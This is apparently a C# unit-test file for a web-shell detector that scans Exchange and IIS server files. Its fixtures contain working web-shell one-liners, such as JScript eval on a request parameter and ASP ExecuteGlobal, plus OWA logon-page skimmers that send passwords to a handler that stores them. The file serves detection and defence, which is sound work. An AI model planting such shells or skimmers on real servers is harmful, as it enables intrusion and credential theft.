using System.Security.Cryptography;
using System.Text;
using Afterpatch.Analysis.Detectors.WebShells;
using Afterpatch.Analysis.Indicators;
using Afterpatch.Core;
using Xunit;

namespace Afterpatch.Analysis.Tests.WebShells;

public class WebFileDetectorTests
{
    private const string Auth = @"C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\auth\";
    private const string Client = @"C:\inetpub\wwwroot\aspnet_client\";
    private const string Shell = "<%@ Page Language=\"Jscript\"%><%ev" + "al(Request.Item[\"pw\"],\"unsafe\");%>";
    private const string Plain = "<%@ Page Language=\"C#\" %><html><%= DateTime.Now %></html>";

    [Fact]
    public void A_web_shell_on_disk_is_reported_with_its_path_hash_and_parameter()
    {
        var finding = Single(Client + "x.aspx", Shell);
        Assert.Equal("webshell.on-disk", finding.Detector);
        Assert.Equal((Severity.Critical, FindingState.Active), (finding.Severity, finding.State));
        Assert.Contains(finding.Details, d => d is { Key: "parameters", Value: "pw" });
        Assert.Contains(finding.Entities, e => e.Kind == "sha256");
        Assert.Equal(1, finding.Evidence[0].At.Line);
    }

    [Fact]
    public void A_saved_oab_configuration_with_script_is_reported_with_its_address()
    {
        var finding = Single(Client + "d.aspx", "Name : OAB (Default Web Site)\r\nServer : EX1\r\nInternalUrl : https://m/OAB\r\nInternalAuthenticationMethods : WindowsIntegrated\r\n"
            + "ExternalUrl : http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){ev" + "al(Request[\"k\"],\"unsafe\");}</script>\r\nWhenChanged : 3/3/2021 10:37:04 AM\r\n");
        Assert.Equal("webshell.oab-configuration", finding.Detector);
        Assert.Contains(finding.Details, d => d.Key == "url" && d.Value.StartsWith("http://f/<script", StringComparison.Ordinal));
        Assert.Contains(finding.Details, d => d is { Key: "whenChanged", Value: "3/3/2021 10:37:04 AM" });
        Assert.Contains(finding.Details, d => d is { Key: "server", Value: "EX1" });
    }

    [Theory]
    [InlineData("lib.inc", "<!--#include file=\"lib.inc\"-->")]
    [InlineData(@"sub\lib.inc", "<!--#include virtual=\"/aspnet_client/sub/lib.inc\"-->")]
    public void A_page_is_judged_with_what_it_includes(string place, string include)
    {
        var page = File(Client + "q.asp", include + "<% Run Request(\"c\") %>");
        var library = File(@"C:\inetpub\wwwroot\aspnet_client\" + place, "<% Sub Run(text)\r\nExecute" + "Global text\r\nEnd Sub %>");
        Assert.Contains(Findings(page, library), finding => finding.Detector == "webshell.on-disk" && finding.Subject.Value.EndsWith("q.asp", StringComparison.Ordinal));
        Assert.DoesNotContain(Findings(page), finding => finding.Detector == "webshell.on-disk");
        var harmless = File(@"C:\inetpub\wwwroot\aspnet_client\" + place, "<% Sub Run(text)\r\nResponse.Write Server.HTMLEncode(text)\r\nEnd Sub %>");
        Assert.DoesNotContain(Findings(page, harmless), finding => finding.Detector is "webshell.on-disk" or "webfile.suspicious");
    }

    [Fact]
    public void A_saved_oab_configuration_without_script_is_only_a_stranger() =>
        Assert.Equal("webfile.unexpected", Single(Client + "d.aspx", "Name : OAB\r\nInternalUrl : https://m/OAB\r\nInternalAuthenticationMethods : x\r\nExternalUrl : https://mail.example.test/OAB\r\n").Detector);

    private const string Store = "<%@ WebHandler Language=\"C#\" Class=\"F\" %>\npublic class F : System.Web.IHttpHandler { public void ProcessRequest(System.Web.HttpContext c) {\n"
        + "System.IO.File.AppendAllText(c.Server.MapPath(\"head.css\"), c.Request.Form[\"a\"] + c.Request.Form[\"b\"]); } public bool IsReusable { get { return true; } } }";

    [Fact]
    public void A_page_that_stores_what_the_logon_page_sends_proves_both()
    {
        var found = Findings(File(Auth + "logon.aspx", Plain + "<script>function clkLgn(){ var x=new XMLHttpRequest(); x.open('POST','/owa/auth/res/font.ashx',true); x.send(gbid('password').value); }</script>"), File(Auth + @"res\font.ashx", Store)).ToList();
        var page = Assert.Single(found, finding => finding.Detector == "webshell.logon-skimmer");
        var store = Assert.Single(found, finding => finding.Detector == "webshell.stores-form");
        Assert.Equal((Confidence.High, Confidence.High), (page.Confidence, store.Confidence));
        Assert.Contains(page.Entities, entity => entity.Value == Auth + @"res\font.ashx");
        Assert.Contains(store.Details, detail => detail.Key == "stored" && detail.Value == Auth + @"res\head.css");
        Assert.Contains(Question.Taken, store.Answers);
    }

    [Fact]
    public void A_store_that_no_logon_page_names_is_less_certain() => Assert.Equal(("webshell.stores-form", Confidence.Medium), (Single(Auth + "font.ashx", Store).Detector, Single(Auth + "font.ashx", Store).Confidence));

    [Theory]
    [InlineData(@"C:\inetpub\wwwroot\shop\font.ashx", Store)]
    [InlineData(Auth + "font.ashx", "<%@ WebHandler Language=\"C#\" Class=\"F\" %> class F { void G(System.Web.HttpContext c) { c.Response.Write(c.Request.Form[\"a\"]); } }")]
    public void A_form_of_another_application_and_one_that_stores_nothing_are_none(string path, string text) => Assert.DoesNotContain(Findings(File(path, text)), finding => finding.Detector == "webshell.stores-form");

    [Fact]
    public void A_hidden_page_is_reported() =>
        Assert.Equal("webshell.hidden-attributes", Single(Client + "x.aspx", Plain, FileAttributes.Hidden | FileAttributes.System).Detector);

    [Theory]
    [InlineData("errorEF.aspx", "webshell.near-miss-name")]
    [InlineData("logoof.aspx", "webshell.near-miss-name")]
    [InlineData("whatever.aspx", "webfile.unexpected")]
    [InlineData("OutlookZH.aspx", "webshell.known-name")]
    public void Names_among_the_logon_pages_are_compared_with_those_of_exchange(string name, string detector) =>
        Assert.Equal(detector, Single(Auth + name, Plain).Detector);

    [Theory]
    [InlineData(Auth + "logon.aspx")]
    [InlineData(Auth + "errorFE.aspx")]
    [InlineData(@"C:\inetpub\intranet\page.aspx")]
    public void Pages_in_their_place_are_quiet(string path) => Assert.Empty(Judge(path, Plain));

    [Fact]
    public void A_logon_page_that_sends_passwords_is_reported_and_one_that_does_not_is_quiet()
    {
        const string Skimmer = Plain + "<script>function clkLgn(){ var x=new XMLHttpRequest(); x.open('POST','/owa/auth/x',true); x.send(document.getElementById('password').value); }</script>";
        Assert.Equal("webshell.logon-skimmer", Single(Auth + "logon.aspx", Skimmer).Detector);
        Assert.Empty(Judge(Auth + "logon.aspx", Plain + "<input type=\"password\" id=\"password\"><script>function clkLgn(){ return true; }</script>"));
    }

    [Theory]
    [InlineData(Auth + @"15.1.2507\scripts\premium\flogon.js")]
    [InlineData(Auth + @"15.1.2507\scripts\premium\boot.js")]
    public void A_script_of_the_logon_page_that_sends_passwords_is_reported(string path)
    {
        Assert.Equal("webshell.logon-skimmer", Single(path, "function clkLgn(){ var p=gbid('password').value; fetch('/owa/auth/s.ashx?d='+btoa(p)); }").Detector);
        Assert.Empty(Judge(path, "function clkLgn(){ var p=gbid('password'); p.focus(); return p.value != ''; }"));
    }

    [Fact]
    public void A_page_that_is_not_beyond_doubt_is_suspicious() =>
        Assert.Equal("webfile.suspicious", Single(@"D:\site\q.aspx", "<%@ Page Language=\"C#\" %><% var c = new SqlCommand(Request[\"q\"], new SqlConnection(\"Server=.;User Id=sa;Password=y\")); c.ExecuteReader(); %>").Detector);

    [Fact]
    public void A_published_hash_is_reported_whatever_the_file_says()
    {
        var known = IndicatorSet.Load(KnowledgeBase.Embedded).All.First(i => i.Type == "sha256");
        var findings = Judge(@"D:\site\a.aspx", Plain, sha256: known.Value);
        Assert.Equal("webshell.known-hash", Assert.Single(findings).Detector);
    }

    [Fact]
    public void Known_benign_files_are_quiet()
    {
        const string Benign = "5470eafeb40805ac58b13de3eb64bea6200c5446e37a21e7674913f2adf5c089";
        Assert.Empty(Judge(Client + "x.aspx", Plain, sha256: Benign));
    }

    [Fact]
    public void Every_indicator_is_well_formed()
    {
        foreach (var indicator in IndicatorSet.Load(KnowledgeBase.Embedded).All)
        {
            Assert.Contains(indicator.Type, new[] { "sha256", "sha1", "md5", "address", "domain", "path" });
            Assert.Contains(indicator.Confidence, new[] { "high", "medium", "low" });
            Assert.Matches(@"^\d{4}-\d\d-\d\d$", indicator.Date);
            Assert.DoesNotContain("[.]", indicator.Value, StringComparison.Ordinal);
        }
    }

    private static Finding Single(string path, string text, FileAttributes? attributes = null) => Assert.Single(Judge(path, text, attributes));

    private static List<Finding> Judge(string path, string text, FileAttributes? attributes = null, string? sha256 = null)
    {
        var bytes = Encoding.UTF8.GetBytes(text);
        var findings = new List<Finding>();
        var detector = new WebFileDetector(KnowledgeBase.Embedded);
        detector.Observe(new WebFile
        {
            At = new EvidencePointer(path),
            Path = path,
            SizeBytes = bytes.Length,
            Sha256 = sha256 ?? Convert.ToHexStringLower(SHA256.HashData(bytes)),
            Attributes = attributes,
            Content = bytes,
        }, findings);
        detector.Complete(findings);
        return findings;
    }

    private static WebFile File(string path, string text) => new()
    {
        At = new(path),
        Path = path,
        SizeBytes = text.Length,
        Sha256 = Convert.ToHexStringLower(SHA256.HashData(Encoding.UTF8.GetBytes(text))),
        Content = Encoding.UTF8.GetBytes(text),
    };

    private static List<Finding> Findings(params WebFile[] files)
    {
        var findings = new List<Finding>();
        var detector = new WebFileDetector(KnowledgeBase.Embedded);
        foreach (var file in files)
            detector.Observe(file, findings);
        detector.Complete(findings);
        return findings;
    }
}
